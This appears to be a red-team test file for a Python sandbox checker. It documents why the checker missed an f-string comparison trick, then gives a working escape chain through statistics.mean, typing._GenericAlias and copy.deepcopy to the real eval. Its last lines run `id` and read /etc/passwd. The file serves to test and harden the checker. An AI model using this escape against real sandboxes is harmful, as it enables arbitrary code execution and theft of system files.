# expect: reject class_value
# line: 67
# why: round 29e ok_01: 'Ratio == f"{p}"': an f-string that is one field is what p.__format__ returned, a str subclass whose __eq__ raised the class out; a comparison is inert against a string only without a field
# ok_01 -- goal 1 (full escape: runs `id`, prints /etc/passwd); on the way goal 2:
#          the private class typing._GenericAlias, then the REAL builtins eval
#          (with the real __import__ and open).
#
# Mechanism: round 29b/29c's statistics/_GenericAlias/deepcopy chain, with a new
#   way to hold the program's class Ratio as a value: a COMPARISON with an
#   F-STRING.  `f"{p}"` with one lone field compiles to FORMAT_VALUE alone, so
#   its value is whatever p.__format__ returns -- here a str subclass Text whose
#   __eq__ raises LookupError(other).  `Ratio == f"{p}"` calls type.__eq__
#   (NotImplemented) and then the reflected Text.__eq__(text, Ratio), which
#   raises the class out; `e.args[0]` is Ratio.
#
# Why the checker missed it: analyzer/stores.c inert_comparison() (new in
#   commit 956011e, round 29c's fix) lets a comparison stand as "handing the
#   class to no code" when every other operand is None, a number, True/False or
#   a node of symbol `string` -- and tree-sitter's `string` node is also an
#   f-string (interpolation children inside).  rules/README.md itself records
#   (18th/22nd red team) that a lone-field f-string is NOT text the interpreter
#   builds but what __format__ returns, a str subclass with its own dunders.
#   So class_value_use() returns early, s->class_held stays false, and
#   statistics_conversions() lets statistics.mean stand.
#   Control: `Ratio == p` with p = Probe() (an __eq__ of its own) is refused
#   (class_value at statistics.mean); so is `Ratio == str(p)`.
import copy
import statistics
import typing


class Odd(int):
    def as_integer_ratio(self):
        raise ValueError("no ratio")

    def is_finite(self):
        return False

    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]


class Ratio:
    numerator = 1
    denominator = 1


class Text(str):
    def __eq__(self, other):
        raise LookupError(other)


class Probe:
    def __format__(self, spec):
        return Text("probe")


p = Probe()
try:
    print(Ratio == f"{p}")
except LookupError as e:
    got = e.args[0]
print("got:", got)
maker = statistics.mean([Odd(1), got])
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
